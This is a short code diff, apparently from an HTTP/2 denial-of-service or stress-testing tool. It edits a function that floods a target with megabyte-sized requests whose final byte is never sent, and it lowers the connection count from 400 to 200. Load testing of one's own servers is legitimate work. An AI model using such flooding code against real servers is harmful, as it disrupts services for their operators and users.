@@ -237,7 +237,7 @@ def incomplete_lists(attack: Attack) -> Done:
     """Requests of a megabyte, whose last byte does not come."""
     part = data(1, b"\0" * 16_000)
     request = headers(1, listing(attack)) + data(1, b"\0\0\x0f\xff\xff") + part * 62
-    return attack.flood(attack.many(400), lambda: once(preface() + request))
+    return attack.flood(attack.many(200), lambda: once(preface() + request))
 
 
 def refused_streams(attack: Attack) -> Done:
